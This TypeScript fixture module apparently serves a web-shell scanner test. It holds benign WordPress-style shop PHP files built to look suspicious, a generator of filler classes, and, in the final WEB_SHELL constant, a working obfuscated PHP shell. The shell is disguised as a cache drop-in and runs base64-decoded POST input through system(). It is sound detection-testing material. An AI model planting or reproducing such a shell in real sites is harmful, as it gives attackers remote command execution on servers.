/**
 * PHP as shops have it: written here, in the manner of WordPress and its plugins. Each would trip a careless grep
 * (eval in comments, base64_decode, str_replace, preg_replace, superglobals) and none is a shell.
 */
export const PHP_FILES: Readonly<Record<string, string>> = {
  'index.php': `<?php
/** Front to the shop. This file loads the theme. */
define( 'SHOP_USE_THEMES', true );
require __DIR__ . '/shop-blog-header.php';
`,
  'shop-blog-header.php': `<?php
if ( ! isset( $shop_did_header ) ) {
	$shop_did_header = true;
	require_once __DIR__ . '/wp-load.php';
}
`,
  'wp-load.php': `<?php
error_reporting( E_CORE_ERROR | E_CORE_WARNING | E_COMPILE_ERROR | E_ERROR | E_WARNING | E_PARSE );
if ( file_exists( __DIR__ . '/wp-config.php' ) ) {
	require_once __DIR__ . '/wp-config.php';
}
`,
  'wp-config.php': `<?php
define( 'DB_NAME', 'shop' );
define( 'DB_USER', 'shop' );
define( 'DB_PASSWORD', 'not-the-real-one' );
define( 'DB_HOST', 'localhost' );
define( 'AUTH_KEY', 'Zq1~l>p!8XbR#k)3vN|w^c2@' );
$table_prefix = 'wp_';
require_once __DIR__ . '/wp-includes/functions.php';
`,
  'wp-cron.php': `<?php
ignore_user_abort( true );
if ( ! empty( $_POST ) || defined( 'DOING_CRON' ) ) {
	die();
}
define( 'DOING_CRON', true );
require_once __DIR__ . '/wp-load.php';
run_due_events( time() );
`,
  'wp-login.php': `<?php
require __DIR__ . '/wp-load.php';
$action = isset( $_REQUEST['action'] ) ? sanitize_key( $_REQUEST['action'] ) : 'login';
if ( ! in_array( $action, array( 'login', 'logout', 'lostpassword' ), true ) ) {
	$action = 'login';
}
$user = isset( $_POST['log'] ) ? sanitize_user( $_POST['log'] ) : '';
echo '<form method="post"><input name="log" value="' . htmlspecialchars( $user, ENT_QUOTES ) . '"></form>';
`,
  'wp-includes/functions.php': `<?php
/** Reduces a key to what may stand in one. Never eval() such things. */
function sanitize_key( $key ) {
	return preg_replace( '/[^a-z0-9_\\-]/', '', strtolower( (string) $key ) );
}
function sanitize_user( $name ) {
	return trim( preg_replace( '|[^a-z0-9 _.\\-@]|i', '', strip_tags( (string) $name ) ) );
}
/* The old template engine used eval( $code ) here: removed in 4.2. */
function normalize_newlines( $text ) {
	return str_replace( array( "\\r\\n", "\\r" ), "\\n", $text );
}
function run_due_events( $now ) {
	foreach ( get_scheduled( $now ) as $event ) {
		call_user_func_array( 'do_action', array( $event['hook'], $event['args'] ) );
	}
}
function get_scheduled( $now ) {
	$events = maybe_decode( file_get_contents( __DIR__ . '/../wp-content/schedule.json' ) );
	return array_filter( (array) $events, function ( $event ) use ( $now ) {
		return $event['at'] <= $now;
	} );
}
function maybe_decode( $text ) {
	return json_decode( $text, true );
}
`,
  'wp-includes/formatting.php': `<?php
function shop_decode_data_uri( $uri ) {
	if ( ! preg_match( '#^data:image/(png|gif|jpeg);base64,#', $uri, $found ) ) {
		return false;
	}
	return base64_decode( substr( $uri, strlen( $found[0] ) ), true );
}
function shop_texturize( $text ) {
	$text = str_replace( '...', '&#8230;', $text );
	return preg_replace_callback( '/\\b(\\d+)x(\\d+)\\b/', 'shop_times', $text );
}
function shop_times( $found ) {
	return $found[1] . '&#215;' . $found[2];
}
function shop_antispam( $email ) {
	$out = '';
	foreach ( str_split( $email ) as $char ) {
		$out .= '&#' . ord( $char ) . ';';
	}
	return $out;
}
`,
  'wp-includes/class-phpmailer.php': `<?php
class Shop_Mailer {
	public $sendmail = '/usr/sbin/sendmail';
	private $queue = array();
	public function add( $to, $subject, $body ) {
		$this->queue[] = array( $to, $this->encode_header( $subject ), chunk_split( base64_encode( $body ) ) );
	}
	private function encode_header( $text ) {
		return '=?UTF-8?B?' . base64_encode( $text ) . '?=';
	}
	public function flush() {
		foreach ( $this->queue as list( $to, $subject, $body ) ) {
			mail( $to, $subject, $body );
		}
	}
}
`,
  'wp-includes/class-http.php': `<?php
class Shop_Http {
	public function get( $url, $timeout = 5 ) {
		$handle = curl_init( $url );
		curl_setopt_array( $handle, array( CURLOPT_RETURNTRANSFER => true, CURLOPT_TIMEOUT => $timeout ) );
		$body = curl_exec( $handle );
		curl_close( $handle );
		return $body;
	}
}
`,
  'wp-includes/cache.php': `<?php
/** The object cache of one request. Not to be mixed up with a drop-in in wp-content. */
class Shop_Object_Cache {
	private $cache = array();
	public function get( $key, $group = 'default' ) {
		return isset( $this->cache[ $group ][ $key ] ) ? $this->cache[ $group ][ $key ] : false;
	}
	public function set( $key, $value, $group = 'default' ) {
		$this->cache[ $group ][ $key ] = is_object( $value ) ? clone $value : $value;
	}
}
`,
  'wp-admin/includes/image.php': `<?php
function shop_thumbnail( $file, $width ) {
	$size = getimagesize( $file );
	$height = (int) round( $size[1] * $width / $size[0] );
	$source = imagecreatefromstring( file_get_contents( $file ) );
	$target = imagecreatetruecolor( $width, $height );
	imagecopyresampled( $target, $source, 0, 0, 0, 0, $width, $height, $size[0], $size[1] );
	return imagejpeg( $target, preg_replace( '/\\.[a-z]+$/i', "-{$width}.jpg", $file ) );
}
`,
  'wp-content/plugins/cart/cart.php': `<?php
/* Plugin Name: Cart */
function cart_add() {
	$product = isset( $_POST['product'] ) ? (int) $_POST['product'] : 0;
	$count   = isset( $_POST['count'] ) ? max( 1, (int) $_POST['count'] ) : 1;
	$items   = isset( $_SESSION['cart'] ) ? $_SESSION['cart'] : array();
	$items[ $product ] = isset( $items[ $product ] ) ? $items[ $product ] + $count : $count;
	$_SESSION['cart']  = $items;
	return array_sum( $items );
}
function cart_total( $prices ) {
	$total = 0;
	foreach ( $_SESSION['cart'] as $product => $count ) {
		$total += $prices[ $product ] * $count;
	}
	return number_format( $total / 100, 2 );
}
`,
  'wp-content/plugins/seo/seo.php': `<?php
/* Plugin Name: Titles and descriptions */
$seo_replacements = array( '%title%' => 'seo_title', '%site%' => 'seo_site' );
function seo_title() { return 'Shop'; }
function seo_site() { return 'shop.example'; }
function seo_render( $template ) {
	global $seo_replacements;
	foreach ( $seo_replacements as $mark => $maker ) {
		$template = str_replace( $mark, $maker(), $template );
	}
	return htmlspecialchars( $template );
}
`,
  'wp-content/themes/shop/functions.php': `<?php
add_action( 'after_setup_theme', 'shop_setup' );
function shop_setup() {
	load_theme_textdomain( 'shop', __DIR__ . '/languages' );
}
function shop_icon( $name ) {
	static $icons = array( 'cart' => 'PHN2ZyB2aWV3Qm94PSIwIDAgMjQgMjQiPjxwYXRoIGQ9Ik0wIDBoMjR2MjRIMHoiLz48L3N2Zz4=' );
	return isset( $icons[ $name ] ) ? base64_decode( $icons[ $name ] ) : '';
}
`,
};

const VERBS = ['get', 'update', 'filter', 'render', 'validate', 'count', 'format', 'merge'];
const NOUNS = ['order', 'product', 'coupon', 'address', 'invoice', 'shipment', 'review', 'tax', 'stock'];

/** One of many dull class files, so that a tree has the size and the tedium of a real one. */
export function dullClass(index: number): { readonly name: string; readonly text: string } {
  const noun = NOUNS[index % NOUNS.length] ?? 'order';
  const methods = VERBS.map(
    (verb, order) => `	public function ${verb}_${noun}( $id, $options = array() ) {
		$options = array_merge( array( 'limit' => ${10 + order}, 'status' => 'open' ), $options );
		$rows    = $this->db->query( 'SELECT * FROM wp_${noun}s WHERE id = ? LIMIT ' . (int) $options['limit'], array( (int) $id ) );
		return str_replace( '%status%', $options['status'], implode( ',', array_column( $rows, '${noun}' ) ) );
	}`,
  );
  const title = `${noun[0]?.toUpperCase()}${noun.slice(1)}`;
  return {
    name: `class-shop-${noun}-${index}.php`,
    text: `<?php\n/** ${title}s of the shop. */\nclass Shop_${title}_${index} {\n	private $db;\n	public function __construct( $db ) {\n		$this->db = $db;\n	}\n${methods.join('\n')}\n}\n`,
  };
}

/** A short dynamic shell, as they are found: the names of the functions never stand in it. */
export const WEB_SHELL = `<?php
/* object cache drop-in */
@error_reporting(0);
@set_time_limit(0);
$k = 'ba' . 'se6' . '4_de' . 'code';
$f = 'sy' . 'st' . 'em';
if (isset($_POST['q'])) {
    @$f($k($_POST['q']));
    exit;
}
echo '<!-- cache ok -->';
`;
